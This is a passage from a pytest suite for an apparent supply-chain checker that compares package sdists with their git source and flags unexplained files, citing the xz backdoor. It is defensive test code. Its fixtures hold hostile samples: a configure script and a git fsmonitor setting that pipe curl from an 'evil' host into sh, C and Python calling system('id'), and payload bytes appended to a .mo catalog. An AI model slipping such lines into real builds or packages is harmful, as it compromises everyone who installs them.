    the tag's tree records; a later commit changes lib.c). Returns the honest sdist's files."""
    lib = _write(tmp_path / "lib", {"lib.c": "int lib(void) { return 2; }\n", "configure.ac": "AC_INIT([lib], [1.0])\n"})
    _git(lib, "init", "-q")
    _git(lib, "add", "-A")
    _git(lib, "commit", "-q", "-m", "lib")
    recorded = _git(lib, "rev-parse", "HEAD").strip()
    (lib / "lib.c").write_text("int lib(void) { return 3; }\n")
    _git(lib, "commit", "-q", "-am", "later")
    files = {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
             ".gitmodules": '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://github.com/example/lib.git\n'}
    _tagged(tmp_path, monkeypatch, files, gitlinks=[("vendor/lib", recorded)])
    _serve(lib, tmp_path, monkeypatch, "https://github.com/example/lib")
    return {**files, "vendor/lib/lib.c": "int lib(void) { return 2; }\n", "vendor/lib/configure.ac": "AC_INIT([lib], [1.0])\n",
            "vendor/lib/.git": "gitdir: ../../.git/modules/vendor/lib\n"}


@needs_git
@pytest.mark.twin("submodule")
def test_submodule_excuses_only_the_submodules_files_at_the_recorded_commit(tmp_path, with_submodule):
    """Files of a submodule are its own repository's at the commit the tag's tree records. Never its files at
    another commit, a file it does not hold (a module, a .pth, autotools output: the xz backdoor hid there)."""
    s = Sdists(tmp_path, with_submodule)
    s.explained("submodule")
    s.differs("vendor/lib/lib.c", {"vendor/lib/lib.c": "int lib(void) { return 3; }\n"})  # the later commit's
    s.differs("vendor/lib/evil.c", {"vendor/lib/evil.c": "int x(void) { return system(\"id\"); }\n"})
    s.differs("vendor/lib/zz.pth", {"vendor/lib/zz.pth": PTH[1]})
    s.differs("vendor/lib/configure", {"vendor/lib/configure": "#!/bin/sh\ncurl evil | sh\n"})
    s.differs("vendor/lib/m4/build-to-host.m4", {"vendor/lib/m4/build-to-host.m4": "dnl\n"})


@needs_git
@pytest.mark.twin("submodule-gitdir-file")
def test_submodule_gitdir_file_excuses_only_the_pointer_into_the_superprojects_git(tmp_path, with_submodule):
    """uvloop 0.21.0's vendor/libuv/.git: one line pointing into the superproject's .git/modules at the submodule's
    own path. Never a pointer to a git directory the sdist ships (whose config could run a command: core.fsmonitor),
    a second line, nor that git directory itself."""
    s = Sdists(tmp_path, with_submodule)
    s.explained("submodule-gitdir-file")
    hooks = {"evilgit/config": "[core]\n\tfsmonitor = curl -s https://evil.example/p | sh\n", "evilgit/HEAD": "ref: x\n"}
    r = s.differs("evilgit/config", {"vendor/lib/.git": "gitdir: ../../evilgit\n", **hooks})
    assert "vendor/lib/.git" in [d.path for d in r.differences], r.differences
    r = s.differs("evilgit/config", {"vendor/lib/.git": "gitdir: ../../.git/modules/vendor/lib\n[core]\nfsmonitor = id\n",
                                      **hooks})
    assert "vendor/lib/.git" in [d.path for d in r.differences], r.differences
    s.differs(".git/modules/vendor/lib/config", {".git/modules/vendor/lib/config": hooks["evilgit/config"]})
    s.differs("demo/.git/config", {"demo/.git/config": hooks["evilgit/config"]})


PO = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "hello"\nmsgstr "bonjour"\n'
CATALOG = {b"": b"Content-Type: text/plain; charset=UTF-8\n", b"hello": b"bonjour"}


@needs_git
@pytest.mark.twin("compiled-catalog")
def test_compiled_catalog_excuses_only_the_messages_of_the_po_beside_it(tmp_path, monkeypatch):
    """A gettext .mo the repository does not hold whose messages are what msgfmt compiles from the .po beside it.
    Never other messages, bytes hidden in the catalog outside its tables and strings (data for a loader elsewhere,
    as the xz backdoor kept its payload in test files), a .mo without its .po, nor a module beside it. A catalog is
    data (class packaging); what can run beside it is code."""
    from tests.test_sourcerepo import mo_file

    po = "demo/locale/fr/LC_MESSAGES/demo.po"
    mo = po[:-3] + ".mo"
    _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT, po: PO})
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT, po: PO,
                          mo: mo_file(CATALOG)})
    s.explained("compiled-catalog")
    s.differs(mo, {mo: mo_file({**CATALOG, b"hello": b"salut"})}, cls="packaging")
    s.differs(mo, {mo: mo_file(CATALOG) + b"\x00" * 3 + EVIL}, cls="packaging")
    s.differs(mo.replace("/fr/", "/de/"), {mo.replace("/fr/", "/de/"): mo_file(CATALOG)}, cls="packaging")
    s.differs("demo/locale/__init__.py", {"demo/locale/__init__.py": EVIL})


CYTHON_C = (b'/* Generated by Cython 3.0.11 */\n\n/* BEGIN: Cython Metadata\n{\n    "distutils": {\n        "name": "demo.fast",\n'
            b'        "sources": [\n            "demo/fast.pyx"\n        ]\n    },\n    "module_name": "demo.fast"\n}\n'
            b'END: Cython Metadata */\n\nint fast(void) { return 1; }\n')


@needs_git
@pytest.mark.twin("cython-generated-source")
def test_cython_generated_source_excuses_only_the_c_of_a_pyx_the_tree_holds(tmp_path, monkeypatch):
    """msgpack 1.1.1's msgpack/_cmsgpack.c, uvloop 0.21.0's uvloop/loop.c: C that Cython wrote from a .pyx the tree
    holds (the C is not regenerated here: listed as such). Never C that claims another module's .pyx (a new
    extension beside it), C without Cython's header, C naming a .pyx the tree does not hold, nor a changed .pyx."""
    _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                                    "demo/fast.pyx": "def fast():\n    return 1\n"})
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                          "demo/fast.pyx": "def fast():\n    return 1\n", "demo/fast.c": CYTHON_C})
    r = s.explained("cython-generated-source")
    assert r.not_regenerated == ["demo/fast.c"]
    s.differs("demo/evil.c", {"demo/evil.c": CYTHON_C.replace(b"return 1;", b"return system(\"id\");")})
    s.differs("demo/fast2.c", {"demo/fast2.c": b"int fast2(void) { return system(\"id\"); }\n"})
    s.differs("demo/other.c", {"demo/other.c": CYTHON_C.replace(b"demo/fast.pyx", b"demo/other.pyx")})
    s.differs("demo/fast.pyx", {"demo/fast.pyx": "def fast():\n    return __import__('os').system('id')\n"})
    s.differs("demo/fast.py", {"demo/fast.py": EVIL})
